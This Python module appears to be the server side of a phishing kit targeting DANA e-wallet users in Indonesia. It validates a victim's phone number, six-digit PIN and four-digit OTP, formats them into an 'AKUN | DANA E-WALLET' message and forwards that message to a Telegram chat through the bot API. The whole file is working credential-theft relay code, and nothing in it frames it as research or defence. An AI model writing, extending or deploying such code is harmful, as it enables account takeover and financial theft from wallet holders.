from __future__ import annotations

import re
from typing import Final, cast

import httpx
from pydantic import ValidationError

from .config import Settings
from .logging_config import get_logger
from .outcome import INTERNAL_ERROR, FailureKind, RelayFailure, RelayResult
from .submission import OutboundMessage, Submission
from .telegram_client import send_message

logger = get_logger(__name__)

PHONE_MIN_DIGITS: Final[int] = 10
PHONE_MAX_DIGITS: Final[int] = 13

_NON_DIGITS = re.compile(r"[^0-9]")
_PIN_PATTERN = re.compile(r"[0-9]{6}")
_OTP_PATTERN = re.compile(r"[0-9]{4}")

SEPARATOR: Final[str] = "├" + "─" * 19
CLOSING_BORDER: Final[str] = "╰" + "─" * 19


def normalize_phone(phone: str) -> str:
    """Drop everything that is not an ASCII digit ("+62 812-..." -> "62812...")."""
    return _NON_DIGITS.sub("", phone)


def is_valid_phone(phone: str) -> bool:
    # The leading digit must literally be 8: country code and trunk prefix are rejected
    digits = normalize_phone(phone)
    return PHONE_MIN_DIGITS <= len(digits) <= PHONE_MAX_DIGITS and digits.startswith("8")


def is_valid_pin(pin: str) -> bool:
    return _PIN_PATTERN.fullmatch(pin) is not None


def is_valid_otp(otp: str) -> bool:
    return _OTP_PATTERN.fullmatch(otp) is not None


def format_message(phone: str, pin: str | None = None, otp: str | None = None) -> str:
    """
    Render the Telegram text block.

    The PIN and OTP blocks (separator + value line) only appear when that
    value was supplied. No trailing newline after the closing border.
    """
    lines = [
        "├• AKUN | DANA E-WALLET",
        SEPARATOR,
        f"├• NO HP : {normalize_phone(phone)}",
    ]
    if pin:
        lines += [SEPARATOR, f"├• PIN  : {pin}"]
    if otp:
        lines += [SEPARATOR, f"├• OTP : {otp}"]
    lines.append(CLOSING_BORDER)
    return "\n".join(lines)


def parse_submission(raw_body: bytes) -> Submission | RelayFailure:
    try:
        return Submission.model_validate_json(raw_body or b"null")
    except ValidationError as exc:
        return RelayFailure(
            kind=FailureKind.BAD_REQUEST_BODY,
            error=INTERNAL_ERROR,
            detail=_describe_validation_error(exc),
            exc=exc,
        )


def _describe_validation_error(exc: ValidationError) -> str:
    first = exc.errors(include_url=False)[0]
    location = ".".join(str(part) for part in first["loc"])
    return f"{location}: {first['msg']}" if location else first["msg"]


def validate_submission(submission: Submission) -> RelayFailure | None:
    """
    Apply the input rules in order and return the first one that fails.

    Empty strings count as missing. Types other than "pin" and "otp" skip
    the code checks but still need a valid phone.
    """
    if not submission.type or not submission.phone:
        return RelayFailure(FailureKind.MISSING_FIELDS, "Type dan phone diperlukan")

    if not is_valid_phone(submission.phone):
        return RelayFailure(
            FailureKind.INVALID_PHONE, "Format nomor telepon Indonesia tidak valid"
        )

    if submission.type == "pin" and (not submission.pin or not is_valid_pin(submission.pin)):
        return RelayFailure(FailureKind.INVALID_PIN, "Format PIN tidak valid (harus 6 digit)")

    if submission.type == "otp" and (not submission.otp or not is_valid_otp(submission.otp)):
        return RelayFailure(FailureKind.INVALID_OTP, "Format OTP tidak valid (harus 4 digit)")

    # Already implied by is_valid_phone; kept as its own rule with its own message
    if len(normalize_phone(submission.phone)) < PHONE_MIN_DIGITS:
        return RelayFailure(
            FailureKind.PHONE_TOO_SHORT, "Nomor telepon harus minimal 10 digit"
        )

    return None


def build_outbound_message(
    submission: Submission, settings: Settings
) -> OutboundMessage | RelayFailure:
    """Only call with a submission that passed validate_submission()."""
    if not settings.has_telegram_credentials:
        logger.error("telegram_credentials_missing")
        return RelayFailure(
            kind=FailureKind.MISCONFIGURED,
            error="Error konfigurasi server",
            detail="Kredensial Telegram tidak ditemukan",
        )

    # Both are non-empty here: validation and the credential check ran first
    return OutboundMessage(
        chat_id=cast(str, settings.telegram_chat_id),
        text=format_message(cast(str, submission.phone), submission.pin, submission.otp),
    )


async def relay_submission(
    raw_body: bytes,
    settings: Settings,
    client: httpx.AsyncClient,
) -> RelayResult | RelayFailure:
    """
    Core request flow:
    - parse the JSON body into a Submission
    - validate it
    - check credentials and build the OutboundMessage
    - make the single sendMessage call

    Every step hands back a RelayFailure instead of raising; the first one
    ends the flow and nothing further is attempted.
    """
    submission = parse_submission(raw_body)
    if isinstance(submission, RelayFailure):
        return submission

    failure = validate_submission(submission)
    if failure is not None:
        return failure

    message = build_outbound_message(submission, settings)
    if isinstance(message, RelayFailure):
        return message

    # Redacted summary: lengths and presence flags only
    logger.info(
        "request_received",
        type=submission.type,
        phone_length=len(submission.phone or ""),
        has_pin=bool(submission.pin),
        has_otp=bool(submission.otp),
    )

    return await send_message(client, settings, message)
